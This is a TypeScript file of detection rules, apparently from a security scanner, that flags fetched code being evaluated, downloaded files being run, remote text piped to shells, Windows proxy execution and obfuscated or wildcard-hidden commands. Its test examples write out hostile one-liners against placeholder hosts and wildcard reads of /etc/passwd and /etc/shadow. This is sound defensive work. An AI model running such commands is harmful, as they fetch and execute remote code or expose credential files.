import type { Rule, RuleMatch } from '../../rule.ts';
import { PIPE_TO_SHELL } from '../pipe_to_shell/format.ts';
import { RUNS_INPUT } from '../shell_syntax.ts';
import { isOddUrl } from '../url_sense.ts';
import { type Beginning, called, LOCAL, NAME, ODD_HOST, pattern, programs } from './call.ts';

/** Programs that run what a file holds. */
const RUNNER =
  /^(?:sudo|doas|nohup|exec|setsid|time|env|start|source|\.|call|cmd|\/c|\/b|-\w{1,8}|wine|java|-jar|(?:ba|z|da)?sh|python[\d.]{0,4}|perl|ruby|node|php|lua|powershell|pwsh|cscript|wscript|rundll32|regsvr32|msiexec|insmod|dpkg|rpm|installer|xargs|&)$/i;
const MAKES_EXECUTABLE = /^(?:sudo )?chmod (?:[ugoa]{0,4}\+[rwx]{0,3}x|0?[1-7]?[57][0-7]{2}) /;

/** The last name of a path or URL. */
function nameOf(word: string): string {
  return word.replace(/[?#].*$/, '').replace(/^.*[/\\:=]/, '');
}

/** Whether a later command runs a file that the first one names. */
function runsWhatCame({ text }: RuleMatch): boolean {
  const [fetched = '', ...others] = text
    .split(/&&|&(?![\w&>])|[;|\r\n]|\\n(?![a-z])/)
    .map((one) => one.trim());
  const names = new Set(
    fetched
      .split(/[\s"',()\\]+/)
      .map(nameOf)
      .filter((name) => name.length > 0 && !/^(?:-|[\d.]+$)/.test(name)),
  );
  const isName = (word: string): boolean => names.has(nameOf(word.replace(/["'\\,}\])]/g, '')));
  return others.slice(0, 8).some((command) => {
    const words = command.split(/[ \t]+/);
    if (MAKES_EXECUTABLE.test(command)) return words.some(isName);
    const at = words.findIndex((word) => !RUNNER.test(word) && !/^\w+=/.test(word));
    const word = words[at] ?? '';
    // A bare name without a runner is some program.
    return isName(word) && (at > 0 || /[/\\]/.test(word));
  });
}

/** Scripts that fetch. */
const FETCHES = [
  [
    String.raw`urlopen\(|urlretrieve\(|requests\.get\(|httpx\.get\(|https?(?:["'\\]{1,4}\))?\.get\(|(?<![\w.])fetch\(|axios(?:\.get)?\(|got\(|Net::HTTP\.get|URI\.open|open-uri|LWP::|HTTP::Tiny|(?:file_get_contents|include|include_once|require)[ (]{1,2}\\?["']https?:|HttpGet|(?<![\w-])(?:iwr|irm|invoke-webrequest|invoke-restmethod) `,
    'urlopen(,urlretrieve(,requests.get(,httpx.get(,.get(,fetch(,axios,got(,net::http,uri.open,open-uri,lwp::,http::tiny,file_get_contents,include,require,httpget,iwr ,irm ,invoke-web,invoke-rest',
  ],
  [
    String.raw`download(?:string|data)(?:async|taskasync)?\(|openread\(`,
    'downloadstring,downloaddata,openread(',
  ],
] as const satisfies readonly Beginning[];
/** Scripts that run text or bytes. */
const EVALUATES = [
  [
    String.raw`(?<![\w.$])(?:exec|eval|assert|loadstring|instance_eval|runpy|execfile)[ \t]?\(`,
    'exec,eval,assert,loadstring,runpy',
  ],
  [
    String.raw`marshal\.loads|pickle\.loads|dill\.loads|types\.CodeType|FunctionType\(|new Function|(?<![\w.])Function\(|vm\.run\w{2,20}|\._compile\(|Script\(|importlib\.util|ctypes\.|VirtualAlloc|mmap\.|memfd_create|Reflection\.Assembly|Assembly\]?::Load|ScriptBlock\]?::Create|add-type |(?:include|require)(?:_once)?[ (]{1,2}\\?["']https?:|\binvoke-expression\b|\biex\b`,
    'marshal.loads,pickle.loads,dill.loads,codetype,functiontype(,function,vm.run,._compile(,script,importlib,ctypes,virtualalloc,mmap.,memfd,assembly,add-type,include,require,invoke-expr,iex',
  ],
] as const satisfies readonly Beginning[];

const FETCH = pattern(FETCHES.map(([one]) => one).join('|'));
const EVALUATION = pattern(EVALUATES.map(([one]) => one).join('|'));

/** `/bin`, `/etc` and `/usr` with any of their letters hidden. */
const GLOBBED = ['bin', 'etc', 'usr']
  .flatMap((name) =>
    [1, 2, 3, 4, 5, 6].map(
      (mask) => `/${[...name].map((letter, at) => ((mask >> at) & 1 ? '?' : letter)).join('')}`,
    ),
  )
  .concat('/???');

/** What comes from elsewhere and runs, by other ways than curl and a shell. */
export const CALLED_RUN_RULES: readonly Rule[] = [
  called({
    ...PIPE_TO_SHELL,
    id: 'fetched_code_evaluated',
    confidence: 'medium',
    begins: [...FETCHES, ...EVALUATES],
    needs: [FETCH, EVALUATION],
    refuses: [pattern(`https?://${LOCAL}`)],
    describes: 'A script that evaluates what it fetches.',
    get finds() {
      return [
        "fetch('http://x.example/l').then(r => r.text()).then(t => new Function(t)())",
        "require('https').get('https://x.example/p.js', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)); })",
        "import marshal,urllib.request as u; exec(marshal.loads(u.urlopen('http://x.example/a').read()))",
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://x.example/a'))",
        "data = requests.get('http://x.example/a').content\nexec(data)",
      ];
    },
    get ignores() {
      return [
        "r = requests.get('https://x.example/a'); print(r.text)",
        "fetch('/a').then(r => /x/.exec(r))",
        'const m = re.exec(await (await fetch(u)).text())',
        "eval('1+1')",
      ];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'copied_file_run',
    severity: 'medium',
    confidence: 'medium',
    begins: [
      [
        `${NAME}(?:aria2c|axel|lwp-download|lwp-request|xh|httpie|wget2|curlie) <160>(?:https?|ftp):`,
        'aria2c,axel,lwp-,xh ,httpie,wget2,curlie',
      ],
      [`${NAME}(?:scp|rsync|sftp) <120>[\\w.@-]{2,100}::?[\\w~/.]`, 'scp ,rsync ,sftp '],
      [
        `${NAME}(?:ftp|tftp|lftp|ncftpget|smbclient|smbget|nc|ncat|ipfs get|aws s3 cp|gsutil (?:-m )?cp|az storage blob download|rclone copy\\w{0,4}|kubectl cp|gh release download|gh gist view) `,
        'ftp ,ncftpget,smbclient,smbget,nc ,ncat ,ipfs get,s3 cp,gsutil,blob download,rclone,kubectl cp,release download,gist view',
      ],
      [
        String.raw`(?<![\w-])(?:urlretrieve\(|certutil[^\r\n;|&]{1,60}urlcache|bitsadmin[^\r\n;|&]{1,40}transfer|(?:copy|xcopy|robocopy|copy-item|expand|esentutl|print) <40&>\\{2,4}[\w.-]{2,60}\\)`,
        'urlretrieve(,urlcache,transfer,copy,expand,esentutl,print',
      ],
    ],
    refuses: [pattern(`://${LOCAL}`)],
    judge: runsWhatCame,
    describes: 'A file that is brought from another machine and run in the next step.',
    get finds() {
      return [
        'aria2c -o run.bin http://x.example/run.bin ; chmod 755 run.bin ; nohup ./run.bin &',
        'scp u@192.0.2.1:/p/a /tmp/a && /tmp/a',
        'aws s3 cp s3://x/a.sh /tmp/a.sh; bash /tmp/a.sh',
        'copy \\\\192.0.2.1\\s\\a.exe C:\\a.exe & C:\\a.exe',
        'rsync x.example:m/a.py . && python3 a.py',
      ];
    },
    get ignores() {
      return [
        'scp dist/app.tgz u@x.example:/srv/',
        'rsync -a u@x.example:/srv/data ./data && ls data',
        'aws s3 cp s3://x/a.csv . && python3 b.py',
        'nc -z db 5432 && ./run.sh',
      ];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'remote_text_piped_to_shell',
    confidence: 'medium',
    within: 260,
    begins: [
      programs(
        'lwp-request lwp-download get w3m links elinks xh curlie wget2 ssh nc ncat netcat ftp tftp socat smbclient finger whois ipfs redis-cli psql mysql dig nslookup host drill gsutil rclone',
      ),
      [
        `${NAME}(?:aws s3 cp|az storage|gh (?:gist|api)|kubectl get|docker run) `,
        's3 cp,az storage,gh gist,gh api,kubectl get,docker run',
      ],
    ],
    needs: [
      pattern(`^(?!(?:dig|nslookup|host|drill) (?![^|]{0,80}txt))[^\\r\\n;]{3,220}?\\|&?${RUNS_INPUT}`),
    ],
    refuses: [pattern(`https?://${LOCAL}`)],
    describes: 'Text from another machine that is piped into a shell or an interpreter.',
    get finds() {
      return [
        'lwp-request http://192.0.2.1/x.pl | perl',
        "dig +short txt a.x.example | tr -d '\"' | bash",
        'ssh u@192.0.2.1 cat s.sh | sh',
        'gh gist view abc | bash',
        'aws s3 cp s3://x/a.sh - | sh',
      ];
    },
    get ignores() {
      return [
        'dig +short txt x.example | head',
        'ssh u@x.example cat a.txt | wc -l',
        'docker run x | grep sh',
        'cat a.sh | sh',
      ];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'windows_program_abused',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1218/',
    within: 40,
    begins: [
      [
        String.raw`(?<![\w-])(?:rundll32|regsvr32|mshta|wscript|cscript|msiexec|start|control|regasm|regsvcs|installutil|msbuild|odbcconf|pcalua|forfiles|explorer|hh|cmstp|bitsadmin|powershell|pwsh|cmd|iex)(?:\.exe)? <100>\\{2,8}(?!\\|[.?]\\)[\w.-]{2,60}(?:@\w{2,6})?\\{1,4}[\w$.-]`,
        'rundll32,regsvr32,mshta,wscript,cscript,msiexec,start,control,regasm,regsvcs,installutil,msbuild,odbcconf,pcalua,forfiles,explorer,hh ,hh.exe,cmstp,bitsadmin,powershell,pwsh,cmd ,cmd.exe,iex',
      ],
      [
        String.raw`(?<![\w-])(?:forfiles<80+>/c|pcalua<20+>-a|odbcconf<30+>regsvr|mavinject|cmstp<30+>/s|installutil<40+>/u|wmic<80+>process call create|regsvr32<20+>scrobj|hh(?:\.exe)? https?:|certoc<20+>-loaddll|finger(?:\.exe)? [^\r\n|]{1,60}\|[ \t]{0,2}cmd)`,
        'forfiles,pcalua,odbcconf,mavinject,cmstp,installutil,wmic,scrobj,hh ,hh.exe,certoc,finger',
      ],
    ],
    describes: 'A program of Windows that runs what lies on another machine, or hides what it runs.',
    get finds() {
      return [
        'rundll32 \\\\192.0.2.1\\share\\a.dll,Start',
        'msbuild.exe \\\\x.example\\s\\a.xml',
        'wmic process call create "cmd /c a.exe"',
        'forfiles /p c:\\windows /m notepad.exe /c calc.exe',
      ];
    },
    get ignores() {
      return [
        'rundll32 shell32.dll,Control_RunDLL',
        'msbuild app.sln /t:Build',
        'msiexec /i app.msi',
        'wmic os get caption',
      ];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'artifact_from_odd_place',
    severity: 'medium',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1195/',
    within: 0,
    begins: [
      [
        `${NAME}(?:${[
          String.raw`kubectl <40>(?:apply|create|replace) <60>-f[ \t=]{0,2}`,
          String.raw`helm (?:install|upgrade|repo add) <80>(?=https?:)`,
          String.raw`(?:ansible-pull|ansible-galaxy) <60>(?=https?:)|terraform init <40>(?=https?:)`,
          String.raw`(?:dpkg|rpm|apt(?:-get)?|dnf|yum|snap|brew|code|docker (?:build|import|plugin install)|crontab|wasmtime|java -jar|node|bun|php|ruby|python3?|systemctl) <60>(?=https?:)(?<![=@"'])`,
        ].join('|')})["']?https?://[^\\s"'\\\\;|&<>]{3,160}`,
        'kubectl,helm,ansible,terraform,dpkg,rpm,apt,dnf,yum,snap,brew,code,docker,crontab,wasmtime,java,node,bun ,php,ruby,python,systemctl',
      ],
      [
        `${NAME}docker (?:run|pull|create) <120>(?<![\\w.])(?!${LOCAL})\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}(?::\\d{1,5})?/[\\w./-]{2,60}`,
        'docker',
      ],
    ],
    judge: ({ text }) =>
      ODD_HOST.test(text) &&
      (!/https?:/.test(text) || isOddUrl(/https?:\/\/[^\s"'\\;|&<>]+/i.exec(text)?.[0] ?? '')),
    describes:
      'A manifest, image or package that is taken from an address without a proper name and runs here.',
    get finds() {
      return [
        'kubectl apply -f http://192.0.2.1/a.yaml',
        'docker run --rm 192.0.2.1:5000/a/b',
        'rpm -i http://192.0.2.1/a.rpm',
        'ansible-pull -U http://x.example/a.git',
      ];
    },
    get ignores() {
      return [
        'kubectl apply -f https://raw.x.example/a.yaml',
        'docker run -p 127.0.0.1:80:80 nginx',
        'helm repo add a https://charts.x.example',
        'node app.js --url http://localhost:80',
      ];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'hidden_code_run',
    severity: 'medium',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1027/010/',
    within: 200,
    begins: [
      [
        String.raw`(?<![\w.$])(?:exec|eval|system|new Function|Function|assert)[ \t]{0,2}\((?=[\s\S]{0,120}?(?:zlib|gzip|bz2|lzma|inflate|b64decode|a85decode|atob\(|fromhex|unhexlify|fromCharCode|map\(chr|chr\(\d|rot_?13|codecs\.decode|base64|pack\(|unpack\(|\[::-1\]|reversed\(|\.reverse\(\)\.join|str_rot13|gzinflate))`,
        'exec,eval,system,function,assert',
      ],
      [
        String.raw`getattr\([ \t]{0,2}(?:__builtins__|__import__\(|os|builtins|globals\()<80+>\+|__import__\([^)\r\n]{0,40}?(?:\+|\[::-1\]|chr\()|globals\(\)\[[^\]\r\n]{0,40}?\+`,
        'getattr(,__import__(,globals()[',
      ],
    ],
    describes: 'Code that a script puts together so that nobody reads it, and runs.',
    get finds() {
      return [
        "exec(zlib.decompress(base64.b64decode('eJwrSSwu0U3NS04pLQYAHu0E5Q==')))",
        "exec(bytes.fromhex('696d706f7274206f73').decode())",
        "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
        'eval(String.fromCharCode(97,98))',
      ];
    },
    get ignores() {
      return ["base64.b64decode('eJwrSSwu')", 're.exec(atob(x))', "getattr(obj, 'name')", "eval('1+1')"];
    },
  }),
  called({
    ...PIPE_TO_SHELL,
    id: 'path_globbed',
    severity: 'medium',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1027/010/',
    within: 60,
    begins: [
      [
        `(?<![\\w/.*?-])(?:${GLOBBED.map((name) => name.replaceAll('?', '\\?')).join('|')})/[\\w?*[\\]/.-]{1,40}`,
        GLOBBED.join(','),
      ],
    ],
    describes: 'A program or file whose folder is written with wildcards, so that nobody reads its name.',
    get finds() {
      return ['/???/c?t /???/p??s??', '/b?n/cat /e?c/passwd', 'cat /?tc/shadow'];
    },
    get ignores() {
      return ['ls /var/log/app-?.log', 'a = b ? /bin/ : c', 'cat /etc/*.conf'];
    },
  }),
];
